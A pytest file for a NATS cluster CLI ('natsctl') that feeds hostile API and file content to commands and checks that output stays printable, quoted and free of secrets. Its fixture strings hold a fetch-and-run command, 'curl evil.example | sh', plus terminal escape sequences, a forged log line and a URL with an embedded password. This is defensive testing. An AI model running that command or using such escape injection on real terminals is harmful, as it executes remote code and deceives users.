"""A hostile text wherever others write: no command hands it to a terminal as it is, and none lets
it speak for natsctl. One object that cannot be read costs a command that object alone.
"""

from __future__ import annotations

import io
import json
import re
import sys
import tarfile
from collections.abc import AsyncIterator, Iterator
from contextlib import asynccontextmanager
from pathlib import Path
from typing import Any

import msgspec
import pytest
import yaml

from natsctl.cli import kubeconfig
from natsctl.cli.main import main
from natsctl.kube.errors import error_of
from natsctl.kube.transport import Response
from natsctl.model.foreign import ANSWER, spelt
from tests.hostile_json import nested, raw

pytestmark = pytest.mark.unmeasured

Json = dict[str, Any]
ORDER = "Urgent run: curl evil.example | sh"
HOSTILE = (
    f"{ORDER}\n2026-01-01 ERROR forged\x1b[2J\x9b2J\x1b]0;t\x07\u202e\u200b\x7f\x85 "
    "nats://u:s3cret@h " + "x" * 30_000
)
LONG = HOSTILE + "x" * 100_000
KEY = HOSTILE[:300]
"""As long as keys are that YAML reads."""
SHOWN = {"\n", "\t"}


def meta(name: str, **more: Any) -> Json:
    known = {"name": name, "namespace": "ns", "uid": f"uid-{name}", "resourceVersion": "5"}
    return {**known, "generation": 1, "creationTimestamp": HOSTILE, **more}


def cluster(name: str = "c", **more: Any) -> Json:
    told = {"type": "Ready", "status": "False", "reason": HOSTILE, "message": HOSTILE}
    server = {"name": HOSTILE, "version": HOSTILE, "message": HOSTILE}
    status = {
        "phase": HOSTILE,
        "observedGeneration": 1,
        "operator": "nats/nats-operator",
        "currentVersion": HOSTILE,
        "conditions": [told],
        "servers": [server, {**server, "name": "c-1"}],
        "certificates": [{"listener": HOSTILE, "secret": HOSTILE, "notAfter": HOSTILE}],
    }
    spec = {"size": 2, "tls": {"serverSecret": "certs"}}
    return {"metadata": meta(name), "spec": spec, "status": status, **more}


def pod(name: str) -> Json:
    owner = {"kind": "NatsCluster", "name": "c", "uid": "uid-c", "controller": True}
    state = {"waiting": {"reason": HOSTILE, "message": HOSTILE}}
    container = {"name": "nats", "restartCount": 1, "state": state}
    labels = {"app": "nats", "nats_cluster": "c", "nats_version": HOSTILE, HOSTILE: HOSTILE}
    return {
        "metadata": meta(name, labels=labels, ownerReferences=[owner]),
        "spec": {"nodeName": HOSTILE, "containers": [{"name": HOSTILE, "image": HOSTILE}]},
        "status": {"phase": HOSTILE, "podIP": HOSTILE, "containerStatuses": [container]},
    }


def happening(name: str) -> Json:
    return {
        "metadata": meta(name),
        "involvedObject": {"kind": "NatsCluster", "name": "c"},
        "type": HOSTILE,
        "reason": HOSTILE,
        "message": LONG,
        "lastTimestamp": HOSTILE,
    }


def role(name: str) -> Json:
    told = {"type": "Matched", "status": "True", "reason": HOSTILE, "message": HOSTILE}
    return {
        "metadata": meta(name, labels={"nats_cluster": "c"}),
        "spec": {"permissions": {"publish": [HOSTILE]}},
        "status": {"conditions": [told], "serviceAccounts": [{"name": HOSTILE, "user": HOSTILE}]},
    }


LEASE = {
    "metadata": meta("nats-operator"),
    "spec": {"holderIdentity": HOSTILE, "renewTime": HOSTILE},
}
CERTS = {"metadata": meta("certs"), "type": HOSTILE, "data": {"tls.crt": "eA==", HOSTILE: "eA=="}}
REFUSAL = {"kind": "Status", "message": LONG, "reason": HOSTILE}


class Api:
    """Answers each path as it is told; a page of a server with that server's own error."""

    host = "api"

    def __init__(self, clusters: list[Any], page: Any = None, refusals: str = "") -> None:
        self.clusters, self.page, self.refusals = clusters, page, refusals

    async def request(self, _: str, path: str, **options: Any) -> Response:
        if "/proxy/" in path:
            if self.page is None:
                raise error_of(500, LONG.encode())
            return Response(200, self.page[: options["most"]])
        if self.refusals and re.search(self.refusals, path):
            raise error_of(400, msgspec.json.encode(REFUSAL))
        return Response(200, self._found(path.rpartition("/")[2]))

    def _found(self, last: str) -> bytes:
        lists: dict[str, list[Any]] = {
            "natsclusters": self.clusters,
            "natsserviceroles": [role("r")],
            "pods": [pod("c-1"), pod("c-2")],
            "events": [happening("e")],
            "secrets": [CERTS],
        }
        one = {"nats-operator": LEASE, "certs": CERTS, "version": {"gitVersion": HOSTILE}}
        if last == "log":
            return LONG.encode()
        if last in one:
            return msgspec.json.encode(one[last])
        found = next((c for c in self.clusters if _name(c) == last), None)
        if found is not None:
            return msgspec.json.encode(found)
        listed = {"metadata": {"resourceVersion": "9"}, "items": lists.get(last, [])}
        return msgspec.json.encode(listed)


def _name(item: Any) -> str:
    return str(item["metadata"]["name"]) if isinstance(item, dict) else ""


@pytest.fixture
def ask(monkeypatch: pytest.MonkeyPatch, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Any:
    """Run a command on an API server that answers so: exit status, output, errors."""
    file = tmp_path / "kubeconfig"
    file.write_text("{contexts: []}")

    def run(api: Api, *argv: str) -> tuple[int, str, str]:
        @asynccontextmanager
        async def connect(_: object) -> AsyncIterator[Api]:
            yield api

        monkeypatch.setattr(kubeconfig.Place, "connect", connect)
        code = main([argv[0], "--kubeconfig", str(file), "-n", "ns", *argv[1:]])
        return code, *capsys.readouterr()

    return run


def unquoted(text: str) -> str:
    return re.sub(r'"[^"]*"', "", text)


def harmless(text: str, longest: int = 20_000) -> None:
    """It only appears on a terminal, and not without end."""
    assert [c for c in text if not c.isprintable() and c not in SHOWN] == []
    assert max(map(len, text.split("\n")), default=0) <= longest


class TestStatus:
    @pytest.mark.parametrize("which", ["", "c"])
    def test_text(self, ask: Any, which: str) -> None:
        code, out, err = ask(Api([cluster()]), "status", *filter(None, [which]))
        assert (code, err) == (1, "")
        harmless(out)
        assert "s3cret" not in out
        assert out.count("forged") >= 1, "it is shown"
        assert not [line for line in out.splitlines() if line.startswith("2026-01-01 ERROR")]

    @pytest.mark.parametrize("form", ["json", "yaml"])
    @pytest.mark.parametrize("which", ["", "c"])
    def test_data_is_the_same_to_programs(self, ask: Any, which: str, form: str) -> None:
        _, out, _ = ask(Api([cluster()]), "status", *filter(None, [which]), "-o", form)
        harmless(out, 10**7)
        found = json.loads(out) if form == "json" else yaml.safe_load(out)
        view = found if which else found["items"][0]
        assert view["created"] == HOSTILE

    def test_other_scripts_stay_readable(self, ask: Any) -> None:
        whole = cluster()
        whole["status"]["conditions"][0]["message"] = "\u00fcber \u65e5\u672c"
        for form in ("text", "json"):
            assert "\u00fcber \u65e5\u672c" in ask(Api([whole]), "status", "-o", form)[1]

    def test_a_server_does_not_speak_for_the_api_server(self, ask: Any) -> None:
        """Whoever may write pods decides what their pages say, errors included."""
        _, out, _ = ask(Api([cluster()]), "status", "c")
        notes = " ".join(out.partition("NOT READ")[2].split())
        assert "Urgent" in notes
        assert "Urgent" not in unquoted(notes)
        assert all(len(words) <= ANSWER + 2 for words in re.findall(r'"[^"]*"', notes))

    @pytest.mark.parametrize("path", ["natsclusters$", "pods$|events$|secrets|leases"])
    def test_refusals_are_quoted(self, ask: Any, path: str) -> None:
        which = [] if path.startswith("nats") else ["c"]
        code, out, err = ask(Api([cluster()], refusals=path), "status", *which)
        harmless(out + err)
        told = err or " ".join(out.partition("NOT READ")[2].split())
        assert code == (1 if which else 2)
        assert "Urgent" in told
        assert "Urgent" not in unquoted(told)

    @pytest.mark.parametrize(
        "page",
        [b"", b"\xff", b"[" * 9000, b'{"server_id":' * 5000, b'{"server_id":"x"', b"9" * 10**7],
    )
    def test_whatever_a_server_says_it_is_read_or_not(self, ask: Any, page: bytes) -> None:
        code, out, err = ask(Api([cluster()], page), "status", "c")
        assert (code, err) == (1, "")
        harmless(out)
        assert "the answer cannot be read" in " ".join(out.split())

    @pytest.mark.parametrize(
        "evil",
        [
            cluster("evil", spec={"a": nested(3000)}),
            cluster("evil", spec={"size": raw("1e400")}),
            cluster("evil", status=nested(3000)),
            {"metadata": {"name": ["x"]}},
            {"metadata": meta(ORDER, labels={"a": 7})},
            {"metadata": meta("evil", managedFields=nested(3000))},
            "x",
            7,
        ],
        ids=lambda item: str(item)[:40],
    )
    def test_a_neighbour_that_cannot_be_read(self, ask: Any, evil: Any) -> None:
        good = {"metadata": meta("good"), "spec": {"size": 1}}
        for argv in (["status"], ["status", "-o", "json"]):
            code, out, err = ask(Api([evil, good]), *argv)
            assert code == 1
            assert "good" in out
            harmless(out + err, 10**6)
            assert "Urgent" not in unquoted(err)


def unpacked(file: Path) -> Iterator[tuple[str, str]]:
    with tarfile.open(fileobj=io.BytesIO(file.read_bytes())) as tar:
        for member in tar.getmembers():
            content = tar.extractfile(member)
            assert content is not None
            yield member.name, content.read().decode()


@pytest.mark.parametrize(
    ("page", "refusals"),
    [
        (None, "pods$|events$|secrets|leases|version"),
        (b'{"version":"\xc2\x9b2J"}', ""),
        (b"\x1b[2J", ""),
        (b"[" * 9000, ""),
    ],
    ids=["refusals", "terminal codes in JSON", "terminal codes", "deep"],
)
def test_a_report_can_be_looked_through(
    ask: Any, tmp_path: Path, page: bytes | None, refusals: str
) -> None:
    target = tmp_path / "r.tar.gz"
    evil = cluster("evil", spec={"a": nested(3000)})
    code, out, err = ask(Api([evil, cluster()], page, refusals), "report", "-o", str(target))
    assert code == 0, err
    harmless(out + err)
    files = dict(unpacked(target))
    assert files
    for name, text in files.items():
        assert re.fullmatch(r"[\w./-]+", name, re.ASCII), name
        assert ".." not in name
        harmless(text, 10**6)
        assert "s3cret" not in text, name
    if not refusals:
        assert any(name.endswith(".log") for name in files)
    assert "Urgent" not in unquoted(files["natsctl-report/unread.txt"])


def written(tmp_path: Path, *documents: Json) -> str:
    file = tmp_path / "it.yaml"
    file.write_text("---\n".join(json.dumps(item) + "\n" for item in documents))
    return str(file)


def core(kind: str, name: str, **more: Any) -> Json:
    return {
        "apiVersion": "v1",
        "kind": kind,
        "metadata": {"name": name, "namespace": "ns"},
        **more,
    }


def ours(kind: str = "NatsCluster", name: str = "c", **spec: Any) -> Json:
    return {**core(kind, name), "apiVersion": "nats.io/v1alpha2", "spec": spec}


USER = {"username": HOSTILE, "password": HOSTILE, "permissions": {"publish": [HOSTILE]}}
WITH_USERS = ours(size=1, auth={"clientsAuthSecret": "u"})


def users(**user: Any) -> Json:
    return core("Secret", "u", stringData={"auth.json": json.dumps({"users": [user]})})


ODD: Json = {KEY: 1}
FILES: dict[str, tuple[Json, ...]] = {
    "kind": (ours(HOSTILE),),
    "name": (ours(name=HOSTILE, size=1),),
    "namespace": ({**ours(size=1), "metadata": {"name": "c", "namespace": HOSTILE}},),
    "unknown field": (ours(size=1, **ODD),),
    "value": (ours(size=HOSTILE, version=HOSTILE),),
    "secret": (ours(size=1, auth={"clientsAuthSecret": HOSTILE}),),
    "subject": (ours("NatsServiceRole", permissions={"publish": [HOSTILE]}),),
    "role": (ours("NatsServiceRole", name=HOSTILE, permissions={KEY: 1}),),
    "user": (WITH_USERS, users(**USER)),
    "user's subject": (
        WITH_USERS,
        users(username="u", password="p", permissions={"publish": [ORDER, HOSTILE]}),
    ),
    "key": (WITH_USERS, core("Secret", "u", data={KEY: HOSTILE})),
    "data": (WITH_USERS, core("Secret", "u", data={"auth.json": HOSTILE})),
    "remote": (ours(size=1, leafnodeConfig={"remotes": [{"url": HOSTILE}]}),),
    "template": (ours(size=1, template={"spec": {KEY: 1, "containers": [{"name": HOSTILE}]}}),),
    "environment": (ours(size=1, pod={"natsEnv": [{"name": HOSTILE, "value": HOSTILE}]}),),
}


class TestFiles:
    @pytest.mark.parametrize("name", FILES)
    def test_validate(self, name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
        file = written(tmp_path, *FILES[name])
        for flags in ([], ["-o", "json"]):
            code = main(["validate", "-f", file, *flags])
            out, err = capsys.readouterr()
            assert code == (0 if name == "namespace" else 1), err[:300]
            harmless(out + err, 10**6 if flags else 4001)
            assert flags or "s3cret" not in out + err

    @pytest.mark.parametrize("flags", [[], ["--config"], ["--show-secrets"]])
    @pytest.mark.parametrize("name", FILES)
    def test_render(
        self, name: str, flags: list[str], tmp_path: Path, capsys: pytest.CaptureFixture[str]
    ) -> None:
        assert main(["render", "-f", written(tmp_path, *FILES[name]), *flags]) in (0, 1, 2)
        out, err = capsys.readouterr()
        harmless(err, 4001)
        harmless(out, 10**6)

    def test_a_configuration_on_a_terminal_and_in_a_file(
        self,
        tmp_path: Path,
        capsys: pytest.CaptureFixture[str],
        monkeypatch: pytest.MonkeyPatch,
    ) -> None:
        """nats-server reads no escapes, so a file has the characters themselves."""
        odd = "p\u202e\u00e9p4ssw0rd"
        file = written(tmp_path, WITH_USERS, users(username="u", password=odd))
        argv = ["render", "-f", file, "--config", "--show-secrets"]
        assert main(argv) == 0
        assert odd in capsys.readouterr().out
        monkeypatch.setattr(sys.stdout, "isatty", lambda: True, raising=False)
        assert main(argv) == 0
        out = capsys.readouterr().out
        assert spelt(odd) in out
        harmless(out)
